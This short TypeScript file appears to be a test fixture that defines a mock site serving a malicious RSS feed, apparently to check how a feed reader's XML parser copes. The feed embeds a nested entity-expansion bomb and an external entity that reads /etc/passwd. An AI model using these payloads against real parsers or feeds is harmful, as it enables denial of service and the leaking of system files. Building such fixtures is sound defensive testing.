import { announcing, page, site, xml } from '../site.ts';

export default site({
  says: 'A feed whose entities name each other until nothing fits into any memory.',
  web: {
    '/': page('', { head: announcing('/feed.xml') }),
    '/feed.xml': xml(
      `<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><title>&d;&e;</title></channel></rss>`,
    ),
  },
});
